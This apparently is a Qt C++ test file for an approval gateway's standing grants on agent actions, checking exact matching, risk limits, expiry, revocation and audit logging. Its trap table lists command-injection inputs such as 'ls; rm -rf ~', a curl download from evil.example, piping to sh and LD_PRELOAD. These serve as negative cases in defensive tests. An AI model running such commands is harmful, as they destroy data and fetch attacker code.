// Standing grants over real HTTP: made while approving, matched exactly (the known traps of
// other tools as a table), listed, revoked, expired, never for high or critical, never after a
// breaker tripped, and recorded as decisions by the grant.
#include "server/GrantMatch.h"
#include "support/TestServer.h"

#include <QJsonArray>
#include <QtTest>

using namespace interlock;
using namespace interlock::test;

namespace {
const QString kTarget = QStringLiteral("host://ci-runner-3");

QJsonObject shell(const QString &command, const QString &cwd = QStringLiteral("/srv/app"),
                  const QString &target = kTarget)
{
    QJsonObject payload{{QStringLiteral("command"), command}};
    if (!cwd.isEmpty())
        payload.insert(QStringLiteral("cwd"), cwd);
    return {{QStringLiteral("kind"), QStringLiteral("shell.exec")},
            {QStringLiteral("title"), QStringLiteral("Run %1").arg(command.left(40).simplified())},
            {QStringLiteral("target"), target},
            {QStringLiteral("payload"), payload}};
}

QJsonObject withPayload(const QString &kind, const QJsonObject &payload)
{
    return {{QStringLiteral("kind"), kind},
            {QStringLiteral("title"), QStringLiteral("A %1").arg(kind)},
            {QStringLiteral("target"), kTarget},
            {QStringLiteral("payload"), payload}};
}

QJsonObject approveGranting(int seconds, const QJsonObject &match = {})
{
    QJsonObject grant{{QStringLiteral("for_seconds"), seconds}};
    if (!match.isEmpty())
        grant.insert(QStringLiteral("match"), match);
    return {{QStringLiteral("decision"), QStringLiteral("approve")},
            {QStringLiteral("grant"), grant}};
}

QString statusOf(const ApiResult &r)
{
    return r.body.value(QStringLiteral("status")).toString();
}
} // namespace

class TestGrants : public QObject
{
    Q_OBJECT

private:
    // Submits `action` and returns the reply (201 expected).
    static ApiResult submit(TestServer &s, const QString &token, const QJsonObject &action)
    {
        const ApiResult r = s.call(token, "POST", QStringLiteral("/v1/actions"), action);
        if (r.status != 201)
            qWarning("submit: %s", qPrintable(r.describe()));
        return r;
    }
    // Submits `action` and approves it with a grant; returns the grant.
    static QJsonObject grantFor(TestServer &s, const QString &token, const QJsonObject &action,
                                int seconds = 3600, const QJsonObject &match = {})
    {
        const QString id = submit(s, token, action).body.value(QStringLiteral("id")).toString();
        const ApiResult r = s.call(s.token(Role::Reviewer), "POST",
                                   QStringLiteral("/v1/actions/%1/decision").arg(id),
                                   approveGranting(seconds, match));
        if (r.status != 200)
            qWarning("grant: %s", qPrintable(r.describe()));
        return r.body.value(QStringLiteral("grant")).toObject();
    }

private Q_SLOTS:
    // A grant for `ls` (cwd /srv/app, on ci-runner-3, agent builder) and what it must not allow.
    void traps_data()
    {
        QTest::addColumn<QString>("agent");
        QTest::addColumn<QJsonObject>("action");
        QTest::addColumn<bool>("allowed");
        const QString builder = QStringLiteral("builder");
        const auto row = [&](const char *name, const QJsonObject &action, bool allowed,
                             const QString &agent = QStringLiteral("builder")) {
            QTest::newRow(name) << agent << action << allowed;
        };
        row("ls again", shell(QStringLiteral("ls")), true);
        row("ls with spaces around", shell(QStringLiteral("  ls ")), true);
        row("'ls' quoted (the same argv)", shell(QStringLiteral("'ls'")), true);
        row("ls; rm -rf ~", shell(QStringLiteral("ls; rm -rf ~")), false);
        row("ls && curl", shell(QStringLiteral("ls && curl https://evil.example/x -o /tmp/x")),
            false);
        row("ls || curl", shell(QStringLiteral("ls || curl https://evil.example")), false);
        row("ls | sh", shell(QStringLiteral("ls | sh")), false);
        row("ls $(rm -rf ~)", shell(QStringLiteral("ls $(rm -rf ~)")), false);
        row("ls `id`", shell(QStringLiteral("ls `id`")), false);
        row("bash -c \"ls; …\"", shell(QStringLiteral("bash -c \"ls; rm -rf ~\"")), false);
        row("sh -c ls", shell(QStringLiteral("sh -c ls")), false);
        row("env ls", shell(QStringLiteral("env ls")), false);
        row("sudo ls", shell(QStringLiteral("sudo ls")), false);
        row("xargs ls", shell(QStringLiteral("xargs ls")), false);
        row("eval ls", shell(QStringLiteral("eval ls")), false);
        row("ls\\nrm -rf ~", shell(QStringLiteral("ls\nrm -rf ~")), false);
        row("ls &", shell(QStringLiteral("ls &")), false);
        row("ls > file", shell(QStringLiteral("ls > /etc/motd")), false);
        row("ls # comment", shell(QStringLiteral("ls # rm -rf ~")), false);
        row("LD_PRELOAD=… ls", shell(QStringLiteral("LD_PRELOAD=/tmp/x.so ls")), false);
        row("ls *", shell(QStringLiteral("ls *")), false);
        row("ls -la (another argv)", shell(QStringLiteral("ls -la")), false);
        row("ls . (another argv)", shell(QStringLiteral("ls .")), false);
        row("another cwd", shell(QStringLiteral("ls"), QStringLiteral("/srv/other")), false);
        row("no cwd", shell(QStringLiteral("ls"), QString()), false);
        row("cwd climbing back", shell(QStringLiteral("ls"), QStringLiteral("/srv/x/../app")),
            false);
        row("cwd spelled differently (the same folder)",
            shell(QStringLiteral("ls"), QStringLiteral("/srv//app/./")), true);
        row("another host",
            shell(QStringLiteral("ls"), QStringLiteral("/srv/app"),
                  QStringLiteral("host://prod-db-1")),
            false);
        row("another agent", shell(QStringLiteral("ls")), false, QStringLiteral("other-agent"));
        Q_UNUSED(builder);
    }
    void traps()
    {
        QFETCH(QString, agent);
        QFETCH(QJsonObject, action);
        QFETCH(bool, allowed);
        TestServer s;
        const auto [sid, token] = s.openSession(QStringLiteral("builder"));
        const QJsonObject grant = grantFor(s, token, shell(QStringLiteral("ls")));
        QVERIFY(grant.value(QStringLiteral("id")).toString().startsWith(QStringLiteral("grt_")));
        QCOMPARE(grant.value(QStringLiteral("facts")).toObject().value(QStringLiteral("argv")),
                 QJsonValue(QJsonArray{QStringLiteral("ls")}));

        // The matcher alone, whatever the risk score: refused, or other facts than the grant's.
        QJsonObject probe = action;
        probe.insert(QStringLiteral("agent"), agent);
        const GrantMatch m = GrantMatch::of(probe, {});
        QCOMPARE(m.ok() && m.key == grant.value(QStringLiteral("key")).toString().toLatin1(),
                 allowed);

        // And over HTTP, from a new session (grants are per agent, not per session).
        const auto [sid2, token2] = s.openSession(agent);
        const ApiResult r = submit(s, token2, action);
        QCOMPARE(r.status, 201);
        QCOMPARE(statusOf(r), allowed ? QStringLiteral("approved") : QStringLiteral("pending"));
        if (allowed) {
            const QJsonObject decision = r.body.value(QStringLiteral("decision")).toObject();
            QCOMPARE(decision.value(QStringLiteral("by")).toString(),
                     QStringLiteral("grant %1 (made by reviewer-user)")
                         .arg(grant.value(QStringLiteral("id")).toString()));
            QCOMPARE(decision.value(QStringLiteral("grant")).toString(),
                     grant.value(QStringLiteral("id")).toString());
            // The agent receives it like any approval.
            const ApiResult d = s.call(token2, "GET",
                                       QStringLiteral("/v1/actions/%1/decision")
                                           .arg(r.body.value(QStringLiteral("id")).toString()));
            QCOMPARE(statusOf(d), QStringLiteral("approved"));
            QCOMPARE(d.body.value(QStringLiteral("decision")).toString(),
                     QStringLiteral("approve"));
        }
        Q_UNUSED(sid);
        Q_UNUSED(sid2);
    }

    void grantsAreRefusedWhereTheyCannotBeExact_data()
    {
        QTest::addColumn<QJsonObject>("action");
        QTest::addColumn<QJsonObject>("decision");
        QTest::addColumn<QString>("code");
        QTest::newRow("high") << shell(QStringLiteral("rm -rf /srv/app/build"))
                              << approveGranting(3600) << QStringLiteral("not_grantable");
        QTest::newRow("a wrapper") << shell(QStringLiteral("bash -c 'make test'"))
                                   << approveGranting(3600) << QStringLiteral("not_grantable");
        QTest::newRow("an operator") << shell(QStringLiteral("make && make install"))
                                     << approveGranting(3600) << QStringLiteral("not_grantable");
        QTest::newRow("a kind without an exact match")
            << withPayload(QStringLiteral("http.request"),
                           {{QStringLiteral("method"), QStringLiteral("GET")},
                            {QStringLiteral("url"), QStringLiteral("https://corp/status")}})
            << approveGranting(3600) << QStringLiteral("not_grantable");
        QTest::newRow("a relative path")
            << withPayload(QStringLiteral("fs.write"),
                           {{QStringLiteral("path"), QStringLiteral("notes.txt")},
                            {QStringLiteral("content"), QStringLiteral("x")}})
            << approveGranting(3600) << QStringLiteral("not_grantable");
        QTest::newRow("another duration") << shell(QStringLiteral("ls")) << approveGranting(7200)
                                          << QStringLiteral("invalid_field");
        QTest::newRow("match options for shell")
            << shell(QStringLiteral("ls"))
            << approveGranting(3600,
                               {{QStringLiteral("arguments"), QJsonArray{QStringLiteral("x")}}})
            << QStringLiteral("not_grantable");
        QJsonObject edit{
            {QStringLiteral("decision"), QStringLiteral("edit")},
            {QStringLiteral("payload"),
             QJsonObject{{QStringLiteral("command"), QStringLiteral("ls")}}},
            {QStringLiteral("grant"), QJsonObject{{QStringLiteral("for_seconds"), 3600}}}};
        QTest::newRow("with an edit")
            << shell(QStringLiteral("ls")) << edit << QStringLiteral("invalid_field");
        QJsonObject reject{
            {QStringLiteral("decision"), QStringLiteral("reject")},
            {QStringLiteral("comment"), QStringLiteral("no")},
            {QStringLiteral("grant"), QJsonObject{{QStringLiteral("for_seconds"), 3600}}}};
        QTest::newRow("with a rejection")
            << shell(QStringLiteral("ls")) << reject << QStringLiteral("invalid_field");
    }
    void grantsAreRefusedWhereTheyCannotBeExact()
    {
        QFETCH(QJsonObject, action);
        QFETCH(QJsonObject, decision);
        QFETCH(QString, code);
        TestServer s;
        const auto [sid, token] = s.openSession(QStringLiteral("builder"));
        const QString id = submit(s, token, action).body.value(QStringLiteral("id")).toString();
        const ApiResult r = s.call(s.token(Role::Reviewer), "POST",
                                   QStringLiteral("/v1/actions/%1/decision").arg(id), decision);
        QCOMPARE(r.status, 422);
        QCOMPARE(r.error().code, code);
        // Refused as a whole: the action was not decided either, and no grant exists.
        QCOMPARE(
            statusOf(s.call(s.token(Role::Reviewer), "GET", QStringLiteral("/v1/actions/") + id)),
            QStringLiteral("pending"));
        QCOMPARE(s.call(s.token(Role::Reviewer), "GET", QStringLiteral("/v1/grants"))
                     .body.value(QStringLiteral("grants"))
                     .toArray()
                     .size(),
                 0);
        Q_UNUSED(sid);
    }

    // A matching action that scores high (here by the agent's own rating) is never approved by
    // a grant.
    void aMatchThatScoresHighWaitsForAPerson()
    {
        TestServer s;
        const auto [sid, token] = s.openSession(QStringLiteral("builder"));
        grantFor(s, token, shell(QStringLiteral("ls")));
        QJsonObject loud = shell(QStringLiteral("ls"));
        loud.insert(QStringLiteral("risk"), QJsonObject{{QStringLiteral("score"), 80}});
        const ApiResult r = submit(s, token, loud);
        QCOMPARE(r.body.value(QStringLiteral("risk"))
                     .toObject()
                     .value(QStringLiteral("level"))
                     .toString(),
                 QStringLiteral("critical"));
        QCOMPARE(statusOf(r), QStringLiteral("pending"));
        Q_UNUSED(sid);
    }

    void fsWriteMatchesTheCanonicalPath()
    {
        TestServer s;
        const auto [sid, token] = s.openSession(QStringLiteral("notes-bot"));
        const auto write = [](const QString &path, const QString &content,
                              const QJsonObject &extra = {}) {
            QJsonObject p = extra;
            p.insert(QStringLiteral("path"), path);
            p.insert(QStringLiteral("content"), content);
            return withPayload(QStringLiteral("fs.write"), p);
        };
        grantFor(s, token,
                 write(QStringLiteral("/home/carol/notes/today.md"), QStringLiteral("a")));
        const auto statusFor = [&](const QJsonObject &a) { return statusOf(submit(s, token, a)); };
        QCOMPARE(
            statusFor(write(QStringLiteral("/home/carol/notes/today.md"), QStringLiteral("b"))),
            QStringLiteral("approved"));
        QCOMPARE(
            statusFor(write(QStringLiteral("/home//carol/./notes/today.md"), QStringLiteral("c"))),
            QStringLiteral("approved"));
        QCOMPARE(statusFor(write(QStringLiteral("/home/carol/notes/../notes/today.md"),
                                 QStringLiteral("d"))),
                 QStringLiteral("pending"));
        QCOMPARE(
            statusFor(write(QStringLiteral("/home/carol/notes/today.md.bak"), QStringLiteral("e"))),
            QStringLiteral("pending"));
        QCOMPARE(
            statusFor(write(QStringLiteral("/home/carol/notes/Today.md"), QStringLiteral("f"))),
            QStringLiteral("pending"));
        QCOMPARE(statusFor(write(QStringLiteral("/home/carol/notes/today.md"), QStringLiteral("g"),
                                 {{QStringLiteral("mode"), QStringLiteral("0777")}})),
                 QStringLiteral("pending"));
        // A secret in the content makes it high: not approved by the grant.
        QCOMPARE(statusFor(write(QStringLiteral("/home/carol/notes/today.md"),
                                 QStringLiteral("-----BEGIN RSA PRIVATE KEY-----"))),
                 QStringLiteral("pending"));
        Q_UNUSED(sid);
    }

    void mcpMatchesTheChosenArguments()
    {
        TestServer s;
        const auto [sid, token] = s.openSession(QStringLiteral("researcher"));
        const auto call = [](const QString &server, const QString &tool, const QJsonObject &args) {
            return withPayload(QStringLiteral("mcp.tool_call"),
                               {{QStringLiteral("server"), server},
                                {QStringLiteral("tool"), tool},
                                {QStringLiteral("arguments"), args}});
        };
        const QString docs = QStringLiteral("docs");
        const QJsonObject first{{QStringLiteral("repo"), QStringLiteral("interlock")},
                                {QStringLiteral("query"), QStringLiteral("kill switch")}};
        // Chosen: only "repo" must be equal.
        const QJsonObject grant =
            grantFor(s, token, call(docs, QStringLiteral("search"), first), 28800,
                     {{QStringLiteral("arguments"), QJsonArray{QStringLiteral("repo")}}});
        QCOMPARE(grant.value(QStringLiteral("match")).toObject().value(QStringLiteral("arguments")),
                 QJsonValue(QJsonArray{QStringLiteral("repo")}));
        const auto statusFor = [&](const QJsonObject &a) { return statusOf(submit(s, token, a)); };
        QCOMPARE(statusFor(call(docs, QStringLiteral("search"),
                                {{QStringLiteral("repo"), QStringLiteral("interlock")},
                                 {QStringLiteral("query"), QStringLiteral("grants")}})),
                 QStringLiteral("approved"));
        QCOMPARE(statusFor(call(docs, QStringLiteral("search"),
                                {{QStringLiteral("repo"), QStringLiteral("payments")},
                                 {QStringLiteral("query"), QStringLiteral("grants")}})),
                 QStringLiteral("pending"));
        QCOMPARE(statusFor(call(docs, QStringLiteral("search"),
                                {{QStringLiteral("query"), QStringLiteral("no repo")}})),
                 QStringLiteral("pending"));
        QCOMPARE(statusFor(call(docs, QStringLiteral("delete"), first)), QStringLiteral("pending"));
        QCOMPARE(statusFor(call(QStringLiteral("other"), QStringLiteral("search"), first)),
                 QStringLiteral("pending"));

        // Without a choice every argument must be equal.
        grantFor(s, token, call(docs, QStringLiteral("fetch"), first));
        QCOMPARE(statusFor(call(docs, QStringLiteral("fetch"), first)), QStringLiteral("approved"));
        QJsonObject more = first;
        more.insert(QStringLiteral("limit"), 5);
        QCOMPARE(statusFor(call(docs, QStringLiteral("fetch"), more)), QStringLiteral("pending"));

        // An empty choice would match any arguments: refused.
        const QString id = submit(s, token, call(docs, QStringLiteral("list"), first))
                               .body.value(QStringLiteral("id"))
                               .toString();
        const ApiResult empty = s.call(
            s.token(Role::Reviewer), "POST", QStringLiteral("/v1/actions/%1/decision").arg(id),
            approveGranting(3600, {{QStringLiteral("arguments"), QJsonArray()}}));
        QCOMPARE(empty.status, 422);
        Q_UNUSED(sid);
    }

    void listRevokeExpireAndAudit()
    {
        TestServer::Options o;
        o.manualClock = true;
        TestServer s(o);
        const auto [sid, token] = s.openSession(QStringLiteral("builder"));
        const QJsonObject grant = grantFor(s, token, shell(QStringLiteral("make test")), 3600);
        const QString id = grant.value(QStringLiteral("id")).toString();
        QCOMPARE(grant.value(QStringLiteral("status")).toString(), QStringLiteral("active"));
        QCOMPARE(grant.value(QStringLiteral("created_by")).toString(),
                 QStringLiteral("reviewer-user"));
        QCOMPARE(grant.value(QStringLiteral("for_seconds")).toInt(), 3600);
        QVERIFY(!grant.value(QStringLiteral("expires_at")).toString().isEmpty());

        const ApiResult used = submit(s, token, shell(QStringLiteral("make test")));
        QCOMPARE(statusOf(used), QStringLiteral("approved"));
        const ApiResult listed =
            s.call(s.token(Role::Manager), "GET", QStringLiteral("/v1/grants"));
        QCOMPARE(listed.status, 200);
        const QJsonObject first =
            listed.body.value(QStringLiteral("grants")).toArray().first().toObject();
        QCOMPARE(first.value(QStringLiteral("uses")).toInt(), 1);
        QVERIFY(!first.value(QStringLiteral("last_used_at")).isNull());

        // The auto-approval has its own audit entry, made by the grant; the grant one by its maker.
        const ApiResult audit =
            s.call(s.token(Role::Admin), "GET", QStringLiteral("/v1/audit?limit=500"));
        bool approvalByGrant = false, grantCreated = false;
        for (const QJsonValue &v : audit.body.value(QStringLiteral("entries")).toArray()) {
            const QJsonObject e = v.toObject();
            approvalByGrant =
                approvalByGrant ||
                (e.value(QStringLiteral("type")).toString() == QLatin1String("action.approve") &&
                 e.value(QStringLiteral("actor")).toString() == QStringLiteral("grant:") + id &&
                 e.value(QStringLiteral("subject")).toString() ==
                     used.body.value(QStringLiteral("id")).toString());
            grantCreated =
                grantCreated ||
                (e.value(QStringLiteral("type")).toString() == QLatin1String("grant.create") &&
                 e.value(QStringLiteral("actor")).toString() == QLatin1String("reviewer-user"));
        }
        QVERIFY(approvalByGrant);
        QVERIFY(grantCreated);
        QVERIFY(s.call(s.token(Role::Admin), "GET", QStringLiteral("/v1/audit/verify"))
                    .body.value(QStringLiteral("ok"))
                    .toBool());

        // Expiry (the injected clock): listed as expired, no longer applied.
        s.clock()->advance(3601 * 1000);
        QCOMPARE(s.call(s.token(Role::Reviewer), "GET", QStringLiteral("/v1/grants/") + id)
                     .body.value(QStringLiteral("grant"))
                     .toObject()
                     .value(QStringLiteral("status"))
                     .toString(),
                 QStringLiteral("expired"));
        QCOMPARE(statusOf(submit(s, token, shell(QStringLiteral("make test")))),
                 QStringLiteral("pending"));
        QCOMPARE(s.call(s.token(Role::Reviewer), "GET", QStringLiteral("/v1/grants?status=active"))
                     .body.value(QStringLiteral("grants"))
                     .toArray()
                     .size(),
                 0);

        // Revocation: a manager may read but not revoke; a reviewer revokes, with an audit entry.
        const QJsonObject second = grantFor(s, token, shell(QStringLiteral("make lint")), 86400);
        const QString secondId = second.value(QStringLiteral("id")).toString();
        QCOMPARE(s.call(s.token(Role::Manager), "DELETE", QStringLiteral("/v1/grants/") + secondId)
                     .status,
                 403);
        QCOMPARE(s.call(token, "DELETE", QStringLiteral("/v1/grants/") + secondId).status, 403);
        const ApiResult revoked =
            s.call(s.token(Role::Oncall), "DELETE", QStringLiteral("/v1/grants/") + secondId);
        QCOMPARE(revoked.status, 200);
        const QJsonObject r = revoked.body.value(QStringLiteral("grant")).toObject();
        QCOMPARE(r.value(QStringLiteral("status")).toString(), QStringLiteral("revoked"));
        QCOMPARE(r.value(QStringLiteral("revoked_by")).toString(), QStringLiteral("oncall-user"));
        QCOMPARE(statusOf(submit(s, token, shell(QStringLiteral("make lint")))),
                 QStringLiteral("pending"));
        QCOMPARE(
            s.call(s.token(Role::Oncall), "DELETE", QStringLiteral("/v1/grants/grt_none")).status,
            404);
        QCOMPARE(s.call(s.token(Role::Reviewer), "GET", QStringLiteral("/v1/grants?status=maybe"))
                     .status,
                 422);

        // Grants survive a restart; so does the revocation.
        const QJsonObject third = grantFor(s, token, shell(QStringLiteral("make docs")), 28800);
        s.restart();
        const ApiResult again = submit(s, token, shell(QStringLiteral("make docs")));
        QCOMPARE(statusOf(again), QStringLiteral("approved"));
        QCOMPARE(statusOf(submit(s, token, shell(QStringLiteral("make lint")))),
                 QStringLiteral("pending"));
        Q_UNUSED(sid);
        Q_UNUSED(third);
    }
};

QTEST_GUILESS_MAIN(TestGrants)
#include "tst_grants.moc"
